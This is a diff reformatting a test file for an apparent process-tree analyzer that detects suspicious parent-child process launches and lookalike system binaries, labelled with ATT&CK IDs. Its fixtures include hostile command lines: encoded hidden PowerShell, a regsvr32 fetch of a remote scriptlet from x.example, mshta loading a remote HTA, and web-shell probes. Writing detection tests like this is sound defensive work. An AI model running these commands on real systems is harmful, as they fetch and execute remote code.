@@ -11,21 +11,94 @@ const idsOf = (p: AlertProcess[]) => analyzeProcessTree(p).summary.replace(/^.*:
 
 describe('suspicious parent → child pairs', () => {
   const cases: [string, AlertProcess, string, string[]][] = [
-    ['Word starts PowerShell', { name: 'powershell.exe', path: `${SYS}\\WindowsPowerShell\\v1.0\\powershell.exe`, commandLine: 'powershell -nop -w hidden -enc SQBFAFgA', parents: [{ name: 'WINWORD.EXE', path: `${OFFICE}\\WINWORD.EXE` }, explorer] }, 'office-child', ['T1204.002', 'T1059.001']],
-    ['Excel starts cmd', { name: 'cmd.exe', commandLine: 'cmd /c start %TEMP%\\a.exe', parents: [{ name: 'EXCEL.EXE' }] }, 'office-child', ['T1204.002', 'T1059.003']],
-    ['OneNote starts wscript', { name: 'wscript.exe', commandLine: 'wscript C:\\Users\\bob\\AppData\\Local\\Temp\\OneNote\\a.vbs', parents: [{ name: 'ONENOTE.EXE' }] }, 'office-child', ['T1059.005']],
+    [
+      'Word starts PowerShell',
+      {
+        name: 'powershell.exe',
+        path: `${SYS}\\WindowsPowerShell\\v1.0\\powershell.exe`,
+        commandLine: 'powershell -nop -w hidden -enc SQBFAFgA',
+        parents: [{ name: 'WINWORD.EXE', path: `${OFFICE}\\WINWORD.EXE` }, explorer],
+      },
+      'office-child',
+      ['T1204.002', 'T1059.001'],
+    ],
+    [
+      'Excel starts cmd',
+      { name: 'cmd.exe', commandLine: 'cmd /c start %TEMP%\\a.exe', parents: [{ name: 'EXCEL.EXE' }] },
+      'office-child',
+      ['T1204.002', 'T1059.003'],
+    ],
+    [
+      'OneNote starts wscript',
+      {
+        name: 'wscript.exe',
+        commandLine: 'wscript C:\\Users\\bob\\AppData\\Local\\Temp\\OneNote\\a.vbs',
+        parents: [{ name: 'ONENOTE.EXE' }],
+      },
+      'office-child',
+      ['T1059.005'],
+    ],
     ['Outlook starts mshta', { name: 'mshta.exe', parents: [{ name: 'OUTLOOK.EXE' }] }, 'office-child', ['T1218.005']],
-    ['PowerPoint starts regsvr32', { name: 'regsvr32.exe', commandLine: 'regsvr32 /s /i:http://x.example/a.sct scrobj.dll', parents: [{ name: 'POWERPNT.EXE' }] }, 'office-child', ['T1218.010']],
+    [
+      'PowerPoint starts regsvr32',
+      { name: 'regsvr32.exe', commandLine: 'regsvr32 /s /i:http://x.example/a.sct scrobj.dll', parents: [{ name: 'POWERPNT.EXE' }] },
+      'office-child',
+      ['T1218.010'],
+    ],
     ['Excel starts rundll32', { name: 'rundll32.exe', parents: [{ name: 'excel.exe' }] }, 'office-child', ['T1218.011']],
-    ['Chrome starts wscript (downloaded .js opened)', { name: 'wscript.exe', commandLine: 'wscript.exe "C:\\Users\\bob\\Downloads\\invoice.js"', parents: [{ name: 'chrome.exe' }] }, 'browser-child', ['T1059.005']],
+    [
+      'Chrome starts wscript (downloaded .js opened)',
+      { name: 'wscript.exe', commandLine: 'wscript.exe "C:\\Users\\bob\\Downloads\\invoice.js"', parents: [{ name: 'chrome.exe' }] },
+      'browser-child',
+      ['T1059.005'],
+    ],
     ['Edge starts PowerShell', { name: 'powershell.exe', parents: [{ name: 'msedge.exe' }] }, 'browser-child', ['T1059.001']],
-    ['WMI starts PowerShell', { name: 'powershell.exe', parents: [{ name: 'WmiPrvSE.exe', path: `${SYS}\\wbem\\WmiPrvSE.exe` }] }, 'wmi-child', ['T1047', 'T1059.001']],
-    ['services.exe starts cmd (PsExec-style)', { name: 'cmd.exe', commandLine: 'cmd.exe /c echo x > \\\\.\\pipe\\x', parents: [{ name: 'services.exe', path: `${SYS}\\services.exe` }] }, 'services-shell', ['T1569.002']],
-    ['svchost starts cmd', { name: 'cmd.exe', parents: [{ name: 'svchost.exe', path: `${SYS}\\svchost.exe` }] }, 'svchost-shell', ['T1059.003']],
-    ['Explorer starts mshta with a URL', { name: 'mshta.exe', commandLine: 'mshta.exe https://x.example/a.hta', parents: [explorer] }, 'explorer-mshta-url', ['T1218.005']],
-    ['IIS worker starts cmd (web shell)', { name: 'cmd.exe', commandLine: 'cmd /c whoami', parents: [{ name: 'w3wp.exe' }] }, 'webserver-shell', ['T1505.003', 'T1059.003']],
-    ['nginx starts whoami', { name: 'whoami', path: '/usr/bin/whoami', parents: [{ name: 'nginx', path: '/usr/sbin/nginx' }] }, 'webserver-shell', ['T1505.003', 'T1033']],
-    ['wscript starts PowerShell', { name: 'powershell.exe', parents: [{ name: 'wscript.exe' }, explorer] }, 'script-host-shell', ['T1059.005', 'T1059.001']],
+    [
+      'WMI starts PowerShell',
+      { name: 'powershell.exe', parents: [{ name: 'WmiPrvSE.exe', path: `${SYS}\\wbem\\WmiPrvSE.exe` }] },
+      'wmi-child',
+      ['T1047', 'T1059.001'],
+    ],
+    [
+      'services.exe starts cmd (PsExec-style)',
+      {
+        name: 'cmd.exe',
+        commandLine: 'cmd.exe /c echo x > \\\\.\\pipe\\x',
+        parents: [{ name: 'services.exe', path: `${SYS}\\services.exe` }],
+      },
+      'services-shell',
+      ['T1569.002'],
+    ],
+    [
+      'svchost starts cmd',
+      { name: 'cmd.exe', parents: [{ name: 'svchost.exe', path: `${SYS}\\svchost.exe` }] },
+      'svchost-shell',
+      ['T1059.003'],
+    ],
+    [
+      'Explorer starts mshta with a URL',
+      { name: 'mshta.exe', commandLine: 'mshta.exe https://x.example/a.hta', parents: [explorer] },
+      'explorer-mshta-url',
+      ['T1218.005'],
+    ],
+    [
+      'IIS worker starts cmd (web shell)',
+      { name: 'cmd.exe', commandLine: 'cmd /c whoami', parents: [{ name: 'w3wp.exe' }] },
+      'webserver-shell',
+      ['T1505.003', 'T1059.003'],
+    ],
+    [
+      'nginx starts whoami',
+      { name: 'whoami', path: '/usr/bin/whoami', parents: [{ name: 'nginx', path: '/usr/sbin/nginx' }] },
+      'webserver-shell',
+      ['T1505.003', 'T1033'],
+    ],
+    [
+      'wscript starts PowerShell',
+      { name: 'powershell.exe', parents: [{ name: 'wscript.exe' }, explorer] },
+      'script-host-shell',
+      ['T1059.005', 'T1059.001'],
+    ],
     ['Acrobat Reader starts cmd', { name: 'cmd.exe', parents: [{ name: 'AcroRd32.exe' }] }, 'reader-child', ['T1204.002']],
   ];
   it.each(cases)('%s', (_title, proc, id, attack) => {
@@ -49,7 +122,15 @@ describe('suspicious parent → child pairs', () => {
     const ordinary: AlertProcess[] = [
       { name: 'WINWORD.EXE', path: `${OFFICE}\\WINWORD.EXE`, parents: [explorer] },
       { name: 'chrome.exe', path: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', parents: [explorer] },
-      { name: 'svchost.exe', path: `${SYS}\\svchost.exe`, commandLine: 'svchost.exe -k netsvcs -p', parents: [{ name: 'services.exe', path: `${SYS}\\services.exe` }, { name: 'wininit.exe', path: `${SYS}\\wininit.exe` }] },
+      {
+        name: 'svchost.exe',
+        path: `${SYS}\\svchost.exe`,
+        commandLine: 'svchost.exe -k netsvcs -p',
+        parents: [
+          { name: 'services.exe', path: `${SYS}\\services.exe` },
+          { name: 'wininit.exe', path: `${SYS}\\wininit.exe` },
+        ],
+      },
       { path: '\\Device\\HarddiskVolume3\\Windows\\System32\\svchost.exe', parents: [{ name: 'MsMpEng.exe' }] },
       { name: 'powershell.exe', path: `${SYS}\\WindowsPowerShell\\v1.0\\powershell.exe`, parents: [explorer] },
       { name: 'mshta.exe', commandLine: 'mshta.exe C:\\Program Files\\Vendor\\help.hta', parents: [explorer] },
@@ -83,16 +164,20 @@ describe('image paths and names', () => {
       expect(f.attack).toContain('T1204.002');
     }
     // Taken from the command line when the path is missing.
-    expect(analyzeProcessTree([{ commandLine: '"C:\\Users\\bob\\Downloads\\a b.exe" /silent' }]).evidence[0]).toBe("runs from the user's Downloads folder: C:\\Users\\bob\\Downloads\\a b.exe");
+    expect(analyzeProcessTree([{ commandLine: '"C:\\Users\\bob\\Downloads\\a b.exe" /silent' }]).evidence[0]).toBe(
+      "runs from the user's Downloads folder: C:\\Users\\bob\\Downloads\\a b.exe",
+    );
   });
 
   it('flags system binaries outside System32 and lookalike names (T1036.005)', () => {
     const fake = analyzeProcessTree([{ name: 'svchost.exe', path: 'C:\\Users\\bob\\AppData\\Roaming\\svchost.exe', parents: [explorer] }]);
     expect(fake.verdict).toBe('malicious');
-    expect(fake.evidence).toEqual(expect.arrayContaining([
-      'svchost.exe runs outside the Windows system folders: C:\\Users\\bob\\AppData\\Roaming\\svchost.exe',
-      'svchost.exe started by explorer instead of services.exe (masquerade or injection host)',
-    ]));
+    expect(fake.evidence).toEqual(
+      expect.arrayContaining([
+        'svchost.exe runs outside the Windows system folders: C:\\Users\\bob\\AppData\\Roaming\\svchost.exe',
+        'svchost.exe started by explorer instead of services.exe (masquerade or injection host)',
+      ]),
+    );
     expect(fake.attack).toContain('T1036.005');
     expect(idsOf([{ name: 'lsass.exe', path: 'C:\\Windows\\lsass.exe' }])).toContain('system-binary-wrong-path');
     expect(idsOf([{ name: 'explorer.exe', path: 'C:\\Windows\\Temp\\explorer.exe' }])).toContain('system-binary-wrong-path');
